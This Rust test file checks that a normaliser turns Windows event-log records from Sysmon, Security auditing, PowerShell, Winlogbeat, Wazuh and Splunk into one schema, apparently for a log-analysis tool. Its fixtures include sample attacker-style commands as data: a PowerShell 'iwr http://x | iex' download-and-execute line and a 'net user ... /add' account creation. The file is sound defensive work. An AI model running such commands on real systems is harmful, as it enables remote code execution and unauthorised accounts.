use super::*;

fn record(value: Value) -> Value {
    normalise(value).expect("a record").value
}

#[test]
fn events_as_evtx_dump_writes_them() {
    let value = json!({"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F"}},
            "EventID": {"#attributes": {"Qualifiers": 0}, "#text": 1},
            "TimeCreated": {"#attributes": {"SystemTime": "2019-05-21T15:33:01.234567Z"}},
            "EventRecordID": 10, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS",
            "Security": {"#attributes": {"UserID": "S-1-5-18"}}
        },
        "EventData": {"Image": "C:\\a.exe", "CommandLine": "a b", "ProcessId": 12, "User": "D\\u"}
    }});
    assert_eq!(
        record(value),
        json!({"event_id": 1, "channel": "Microsoft-Windows-Sysmon/Operational", "provider": "Microsoft-Windows-Sysmon",
            "computer": "WS", "time": "2019-05-21T15:33:01.234567Z", "user": "D\\u", "record_id": 10,
            "data": {"Image": "C:\\a.exe", "CommandLine": "a b", "ProcessId": "12", "User": "D\\u"}})
    );
}

#[test]
fn events_with_named_and_unnamed_data() {
    let value = json!({
        "System": {"EventID": "400", "Provider_attributes": {"Name": "PowerShell"}, "Channel": "Windows PowerShell"},
        "EventData": {"Data": [{"#attributes": {"Name": "A"}, "#text": "1"}, {"@Name": "B", "#text": "2"}, "loose"]}
    });
    let record = record(value);
    assert_eq!(record["provider"], "PowerShell");
    assert_eq!(
        record["data"],
        json!({"A": "1", "B": "2", "Data1": "loose"})
    );
    let strings = super::normalise(
        json!({"System": {"EventID": 800}, "EventData": {"Data": {"#text": ["x", "y"]}}}),
    );
    assert_eq!(
        strings.unwrap().value["data"],
        json!({"Data1": "x", "Data2": "y"})
    );
}

#[test]
fn events_of_winlogbeat_old_and_new() {
    let new = json!({
        "@timestamp": "2020-01-01T00:00:00.000Z", "event": {"code": 4688},
        "winlog": {"event_id": 4688, "channel": "Security", "provider_name": "P", "computer_name": "C", "record_id": 5,
            "event_data": {"NewProcessName": "n", "CommandLine": "c", "SubjectUserName": "s", "SubjectDomainName": "d"}},
        "process": {"executable": "n", "command_line": "c"}
    });
    let record_new = record(new);
    assert_eq!(record_new["user"], "d\\s");
    assert_eq!(record_new["data"]["NewProcessName"], "n");
    assert_eq!(record_new["data"].get("Image"), None);
    let old = json!({"_source": {"event_id": 1, "log_name": "L", "event_data": {"Image": "i"}}});
    assert_eq!(
        record(old),
        json!({"event_id": 1, "channel": "L", "data": {"Image": "i"}})
    );
    let dotted = json!({"winlog.event_id": 1, "winlog.event_data.Image": "i", "winlog.channel": "L", "@timestamp": "2020-01-01T00:00:00Z"});
    assert_eq!(record(dotted)["data"]["Image"], "i");
}

#[test]
fn flat_events_of_data_sets() {
    let value = json!({
        "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon",
        "Hostname": "W", "@timestamp": "2020-05-02T02:55:56.157Z", "EventTime": "2020-05-01 22:55:55",
        "SourceModuleType": "im_msvistalog", "CommandLine": "cmd", "Image": "C:\\cmd.exe", "RecordNumber": 7,
        "AccountName": "SYSTEM", "Domain": "NT AUTHORITY", "Message": "Process Create:\r\nCommandLine: other"
    });
    let record = record(value);
    assert_eq!(record["event_id"], 1);
    assert_eq!(record["computer"], "W");
    assert_eq!(record["user"], "NT AUTHORITY\\SYSTEM");
    assert_eq!(record["data"]["CommandLine"], "cmd");
    assert_eq!(record["time"], "2020-05-02T02:55:56.157Z");
}

#[test]
fn values_are_taken_out_of_a_message() {
    let value = json!({
        "Id": 4688, "ProviderName": "Microsoft-Windows-Security-Auditing", "LogName": "Security", "MachineName": "M",
        "TimeCreated": "/Date(1588388414861)/",
        "Message": "A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\tS-1-5-18\r\n\tAccount Name:\t\talice\r\n\tAccount Domain:\t\tCORP\r\n\r\nProcess Information:\r\n\tNew Process ID:\t\t0x1\r\n\tNew Process Name:\tC:\\Windows\\net.exe\r\n\tProcess Command Line:\tnet user a b /add\r\n"
    });
    let normalised = normalise(value).unwrap();
    assert_eq!(normalised.time, Some(WallTime(1_588_388_414_861_000_000)));
    let data = &normalised.value["data"];
    assert_eq!(data["NewProcessName"], "C:\\Windows\\net.exe");
    assert_eq!(data["CommandLine"], "net user a b /add");
    assert_eq!(normalised.value["user"], "CORP\\alice");
    let sysmon = record(
        json!({"Id": 1, "ProviderName": "Microsoft-Windows-Sysmon", "Message": "Process Create:\nImage: C:\\a.exe\nCommandLine: a: b\n"}),
    );
    assert_eq!(sysmon["data"]["CommandLine"], "a: b");
    let script = record(
        json!({"Id": 4104, "ProviderName": "Microsoft-Windows-PowerShell", "Message": "Creating Scriptblock text (1 of 1):\niwr http://x\n| iex\n\nScriptBlock ID: 1\nPath: "}),
    );
    assert_eq!(script["data"]["ScriptBlockText"], "iwr http://x\n| iex");
}

#[test]
fn the_common_schema_alone_is_a_process() {
    let value = json!({"@timestamp": "2020-01-01T00:00:00Z", "host": {"name": "h"}, "user": {"name": "u", "domain": "d"},
        "process": {"executable": "C:\\a.exe", "command_line": "a", "parent": {"executable": "C:\\p.exe"}}});
    let record = record(value);
    assert_eq!(record["event_id"], 1);
    assert_eq!(record["data"]["ParentImage"], "C:\\p.exe");
}

#[test]
fn wazuh_and_splunk() {
    let wazuh = json!({"data": {"win": {"system": {"eventID": "1", "channel": "c"}, "eventdata": {"commandLine": "x"}}}});
    assert_eq!(record(wazuh)["data"]["CommandLine"], "x");
    let splunk = json!({"preview": false, "result": {"EventCode": "4688", "Process_Command_Line": "x", "New_Process_Name": "y"}});
    assert_eq!(record(splunk)["data"]["CommandLine"], "x");
}

#[test]
fn other_values_are_refused() {
    assert_eq!(
        normalise(json!({"a": 1})).unwrap_err(),
        NormaliseError::NotAnEvent
    );
    assert_eq!(normalise(json!(7)).unwrap_err(), NormaliseError::NotAnEvent);
    let many: Map<String, Value> = (0..=VALUES_MAX)
        .map(|number| (format!("k{number}"), json!(1)))
        .chain([("EventID".to_owned(), json!(1))])
        .collect();
    assert!(matches!(
        normalise(Value::Object(many)).unwrap_err(),
        NormaliseError::TooManyValues { .. }
    ));
}
